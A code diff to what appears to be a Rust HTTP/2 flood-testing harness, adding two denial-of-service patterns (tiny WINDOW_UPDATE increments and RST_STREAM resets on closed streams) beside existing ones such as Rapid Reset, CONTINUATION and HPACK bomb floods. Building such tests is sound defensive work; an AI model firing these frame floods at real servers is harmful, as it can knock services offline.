@@ -24,19 +24,25 @@ enum Flood {
     Settings,
     Ping,
     EmptyData,
+    /// Windows of streams that are closed, and of the connection, that grow by a byte (RFC 9113 section 6.9).
+    WindowUpdates,
+    /// Resets of streams that are closed.
+    Resets,
     /// Heads far above the limit.
     LargeHeads,
     /// A small field in the table, named thousands of times (RFC 7541 section 7.3).
     HpackBomb,
 }
 
-const FLOODS: [Flood; 8] = [
+const FLOODS: [Flood; 10] = [
     Flood::RapidReset,
     Flood::MadeYouReset,
     Flood::Continuation,
     Flood::Settings,
     Flood::Ping,
     Flood::EmptyData,
+    Flood::WindowUpdates,
+    Flood::Resets,
     Flood::LargeHeads,
     Flood::HpackBomb,
 ];
@@ -71,6 +77,13 @@ impl Flood {
                 headers(1, 0, &head)
             }
             Self::EmptyData => many(&frame(DATA, 0, 1, &[])),
+            Self::WindowUpdates | Self::Resets if round == 0 => headers(1, END_STREAM, &get(host, "/")),
+            Self::WindowUpdates => {
+                let by_one = 1_u32.to_be_bytes();
+                let both = [frame(WINDOW_UPDATE, 0, 1, &by_one), frame(WINDOW_UPDATE, 0, 0, &by_one)];
+                many(&both.concat())
+            }
+            Self::Resets => many(&frame(RST_STREAM, 0, 1, &8_u32.to_be_bytes())),
             Self::LargeHeads => {
                 let mut head = get(host, "/");
                 head.extend((0..200).map(|at| (format!("x-{at}").into_bytes(), vec![b'a'; 400])));
